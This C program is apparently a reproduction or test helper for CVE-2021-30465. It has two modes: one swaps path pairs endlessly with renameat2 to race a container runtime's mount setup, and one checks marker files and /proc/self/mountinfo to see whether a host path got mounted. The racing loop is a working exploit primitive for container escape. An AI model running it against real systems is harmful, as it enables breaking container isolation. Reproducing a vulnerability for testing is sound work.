/*
 * Both sides of a race for the place of a mount (CVE-2021-30465).
 *   racer exchange A B [A B]...   exchanges each pair for ever; on SIGTERM prints how often
 *   racer look N WORD             for each of the mounts /s/0 … /s/N-1 the first letter of its file "marker", "-" without
 *                                 one; then how many tmpfs lie on a path with "race" in it, and whether WORD stands
 *                                 anywhere in mountinfo
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int signal)
{
    (void)signal;
    stop = 1;
}

static int exchange(int count, char **paths)
{
    unsigned long done = 0;
    unsigned seed = (unsigned)getpid();
    signal(SIGTERM, on_term);
    puts("racing");
    fflush(stdout);
    while (!stop) {
        for (int i = 0; i + 1 < count; i += 2) {
            /* RENAME_EXCHANGE: there is no moment without the name. */
            if (syscall(SYS_renameat2, AT_FDCWD, paths[i], AT_FDCWD, paths[i + 1], 2) != 0) {
                printf("renameat2 %s\n", strerror(errno));
                return 1;
            }
            done++;
            /* A rhythm that never fits twice into the same place of the other's walk. */
            for (volatile int spin = rand_r(&seed) % 3000; spin > 0; spin--)
                ;
        }
    }
    printf("exchanged %lu\n", done);
    return 0;
}

static int look(int count, const char *word)
{
    char path[64], line[8192];
    for (int i = 0; i < count; i++) {
        char letter = '-';
        snprintf(path, sizeof path, "/s/%d/marker", i);
        int file = open(path, O_RDONLY);
        if (file >= 0) {
            if (read(file, &letter, 1) != 1)
                letter = '?';
            close(file);
        }
        putchar(letter);
    }
    int mounted = 0, seen = 0;
    FILE *table = fopen("/proc/self/mountinfo", "r");
    while (table != NULL && fgets(line, sizeof line, table) != NULL) {
        mounted += strstr(line, "race") != NULL && strstr(line, " - tmpfs ") != NULL;
        /* Field 4 is the place in the file system that was mounted, field 5 where: only the first is of the host. */
        char *save, *field = strtok_r(line, " ", &save);
        for (int i = 1; i < 4 && field != NULL; i++)
            field = strtok_r(NULL, " ", &save);
        seen += field != NULL && strstr(field, word) != NULL;
    }
    printf(" %d %d\n", mounted, seen);
    return 0;
}

int main(int count, char **words)
{
    if (count >= 4 && !strcmp(words[1], "exchange"))
        return exchange(count - 2, words + 2);
    if (count == 4 && !strcmp(words[1], "look"))
        return look(atoi(words[2]), words[3]);
    fputs("usage: racer exchange A B... | look N WORD\n", stderr);
    return 2;
}
